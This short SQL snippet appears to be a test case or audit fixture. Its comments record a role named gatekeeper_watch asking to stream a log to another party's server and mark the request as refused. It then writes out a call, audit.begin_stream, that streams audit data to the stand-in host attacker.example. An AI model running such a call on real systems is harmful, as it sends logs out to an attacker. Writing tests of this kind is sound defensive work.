-- As: gatekeeper_watch
-- Wants: a log that goes to another's server.
-- Verdict: refused: where the settings say
SELECT audit.begin_stream('https://attacker.example/in', 'attack');
